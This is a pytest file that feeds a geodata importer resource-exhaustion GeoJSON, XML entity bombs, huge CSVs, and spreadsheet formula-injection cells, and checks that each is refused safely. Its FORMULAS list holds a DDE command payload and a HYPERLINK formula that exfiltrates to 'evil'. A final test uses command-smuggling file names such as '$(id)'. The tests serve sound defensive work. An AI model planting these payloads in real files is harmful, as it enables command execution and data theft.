"""Files made to take all memory or all time: each ends soon, is told why, and changes nothing.

GeoJSON, XML and CSV, and the workbook that goes back.
"""

import json
from contextlib import closing
from pathlib import Path

import openpyxl
import pytest

from tests.drawing import lonlat
from tests.hostile.feeding import DOCTYPES, Feeder, is_refused

# GeoJSON


def feature(coordinates: str, kind: str = "Polygon", properties: str = '{"code":"B1"}') -> str:
    return (
        f'{{"type":"Feature","properties":{properties},'
        f'"geometry":{{"type":"{kind}","coordinates":{coordinates}}}}}'
    )


def ring(n: int, size: float = 0.001) -> list[tuple[float, float]]:
    """A comb of n teeth."""
    lon, lat = lonlat(0.5, 0.5)
    step = size / n
    teeth = [(lon + i * step, lat + (size if i % 2 else 0)) for i in range(n)]
    return [*teeth, (lon + size, lat - size), (lon, lat - size), teeth[0]]


SQUARE = json.dumps([ring(2)])
DEEP = 1_000_000
GEOJSON_BOMBS = {
    "coordinates a million deep": feature("[" * DEEP + "]" * DEEP),
    "coordinates that only open": feature("[" * DEEP),
    "properties a million deep": feature(SQUARE, properties='{"a":' * DEEP + "1" + "}" * DEEP),
    "a property of arrays": feature(
        SQUARE, properties='{"code":' + "[" * DEEP + "]" * DEEP + "}"
    ),
    "collections in collections": '{"type":"Feature","properties":{"code":"B1"},"geometry":'
    + '{"type":"GeometryCollection","geometries":[' * 100_000
    + "]}" * 100_000
    + "}",
    "a number of a million digits": feature(f"[[[{'9' * DEEP},1],[1,1],[1,2],[{'9' * DEEP},1]]]"),
    "exponents without end": feature("[[[1e999999999,1],[1,1],[1,2],[1e999999999,1]]]"),
    "numbers at the end of doubles": feature(
        "[[[1e308,1e308],[-1e308,1],[1,-1e308],[1e308,1e308]]]"
    ),
    "a hundred dimensions": feature(json.dumps([[[0.0] * 100] * 4])),
    "coordinates that are an object": feature('{"0":[1,1]}'),
    "a million empty rings": feature("[" + ",".join(["[]"] * DEEP) + "]"),
    "a million empty parts": feature("[" + ",".join(["[]"] * DEEP) + "]", "MultiPolygon"),
    "a ring of a million vertices": feature(json.dumps([ring(DEEP)])),
    "a property of ten megabytes": feature(
        SQUARE, properties=json.dumps({"code": "B1", "name": "长" * (3 << 20)})
    ),
    "a hundred thousand properties": feature(
        SQUARE, properties=json.dumps({f"p{i}": i for i in range(100_000)})
    ),
    "a lone surrogate": feature(SQUARE, properties='{"code":"B1","name":"\\ud800"}'),
    "a NUL in a name": feature(SQUARE, properties='{"code":"B1","name":"a\\u0000b"}'),
    "a code that is a program": feature(SQUARE, properties='{"code":{"$ne":null}}'),
}  # fmt: skip


@pytest.mark.parametrize("name", GEOJSON_BOMBS)
def test_geojson(feeder: Feeder, unchanged: None, tmp_path: Path, name: str) -> None:
    (tmp_path / "x.geojson").write_text(GEOJSON_BOMBS[name], encoding="utf-8")
    assert is_refused(feeder.feed(tmp_path / "x.geojson", crs=None))


def test_a_member_that_is_there_a_million_times_counts_once(
    feeder: Feeder, tmp_path: Path, unchanged: None
) -> None:
    twice = '{"code":"B1",' + '"floors":7,' * DEEP + '"floors":"no number"}'
    (tmp_path / "x.geojson").write_text(feature(SQUARE, properties=twice))
    told = feeder.feed(tmp_path / "x.geojson", crs=None)
    assert told["read"] == told["rejected"] == 1
    assert any("whole number" in reason for reason in told["reasons"])


@pytest.mark.parametrize("layer", ["grids", "buildings"])
def test_shapes_just_within_the_bounds(
    feeder: Feeder, tmp_path: Path, unchanged: None, layer: str
) -> None:
    """The most vertices, holes and parts a shape may have; the last row is wrong, so none stays."""
    west, south = lonlat(0.5, 0.5)
    step = 1e-6
    holes = [
        [[west + i % 150 * 4 * step + dx * step, south + i // 150 * 4 * step + dy * step]
         for dx, dy in ((1, 1), (3, 1), (3, 3), (1, 1))]
        for i in range(20_000)
    ]  # fmt: skip
    outer = [[west, south], [west + 0.0009, south], [west + 0.0009, south + 0.0009],
             [west, south + 0.0009], [west, south]]  # fmt: skip
    shapes = [
        ("Polygon", [ring(99_990)]),
        ("Polygon", [outer, *holes]),
        ("MultiPolygon", [[hole] for hole in holes]),
    ]
    text = "\n".join(
        feature(json.dumps(shape), kind, json.dumps({"code": f"B{n}", "name": "x"}))
        for n, (kind, shape) in enumerate(shapes)
    )
    (tmp_path / "x.geojson").write_text(text + '\n{"type":')  # cut off: all or nothing
    told = feeder.feed(tmp_path / "x.geojson", layer, crs=None)
    assert "cut off" in told["en"]


# XML: KML, GML and whatever begins with <


XML = {
    "kml": '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark><name>{e}</name>'
    "<Point><coordinates>111.5,38.7</coordinates></Point></Placemark></Document></kml>",
    "gml": '<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml">{e}'
    "</gml:FeatureCollection>",
    "gpx": '<gpx version="1.1"><wpt lat="38.7" lon="111.5"><name>{e}</name></wpt></gpx>',
    "xml": "<x>{e}</x>",
}


@pytest.mark.parametrize("doctype", DOCTYPES)
@pytest.mark.parametrize("kind", XML)
def test_xml_is_never_parsed(
    feeder: Feeder, unchanged: None, tmp_path: Path, kind: str, doctype: str
) -> None:
    text = "{}{}{}".format(
        '<?xml version="1.0"?>', DOCTYPES[doctype], XML[kind].format(e="&e;" * 1000)
    )
    for suffix in (kind, "geojson", "csv", "xlsx"):
        (tmp_path / f"x.{suffix}").write_text(text)
        assert "never read" in feeder.feed(tmp_path / f"x.{suffix}")["en"]


# Text


def test_a_row_of_a_hundred_million_cells(feeder: Feeder, unchanged: None, tmp_path: Path) -> None:
    (tmp_path / "x.csv").write_text("code,name,lon,lat\n" + "," * 100_000_000 + "\n")
    assert "this is no table" in feeder.feed(tmp_path / "x.csv")["en"]
    (tmp_path / "y.csv").write_text("code,name,lon,lat\n" + '"\n",' * 20_000_000 + "\n")
    assert "this is no table" in feeder.feed(tmp_path / "y.csv")["en"]


def test_a_hundred_thousand_columns(feeder: Feeder, unchanged: None, tmp_path: Path) -> None:
    head = ",".join(f"c{n}" for n in range(100_000))
    (tmp_path / "x.csv").write_text(head + "\n" + "1," * 100_000 + "\n")
    assert "at most 1,000" in feeder.feed(tmp_path / "x.csv", seconds=5)["en"]


def test_a_file_of_one_line_and_a_quote_that_never_closes(
    feeder: Feeder, unchanged: None, tmp_path: Path
) -> None:
    (tmp_path / "x.csv").write_text("x" * (200 << 20))
    assert "no header" in feeder.feed(tmp_path / "x.csv")["en"]
    (tmp_path / "y.csv").write_text('code,lon,lat\n"' + "x\n" * (50 << 20))
    assert "never closed" in feeder.feed(tmp_path / "y.csv")["en"]


# What goes back to the sender


FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
            '=HYPERLINK("http://evil/?"&A1)', "=IMPORTXML(A1)", "{=1+1}", "%0A=1+1"]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_neither_cells_nor_names_of_columns_become_formulas(
    feeder: Feeder, unchanged: None, tmp_path: Path, formula: str
) -> None:
    quoted = '"' + formula.replace('"', '""') + '"'
    (tmp_path / "x.csv").write_text(
        f"code,name,floors,lon,lat,{quoted}\n{quoted},{quoted},{quoted},{quoted},{quoted},{quoted}\n",
        newline="",
    )
    assert feeder.feed(tmp_path / "x.csv")["rejected"] == 1
    with closing(openpyxl.load_workbook(feeder.folder / "rejects.xlsx")) as book:
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]
    texts = [str(cell.value) for cell in cells]
    assert any(formula.strip() in text for text in texts)
    assert all(cell.data_type != "f" and cell.hyperlink is None for cell in cells)
    assert not any(text.startswith(("=", "+", "-", "@", "\t", "\r")) for text in texts)
    (feeder.folder / "rejects.xlsx").unlink()


def test_a_file_named_like_a_formula_or_an_option(
    feeder: Feeder, unchanged: None, tmp_path: Path
) -> None:
    for name in ("=1+1.csv", "-rf.csv", "$(id).csv", "a;id.csv", "a b'\"c.csv"):
        (tmp_path / name).write_text("code,lon,lat\n,,\n=1,111.5,x\n")
        assert is_refused(feeder.feed(tmp_path / name))
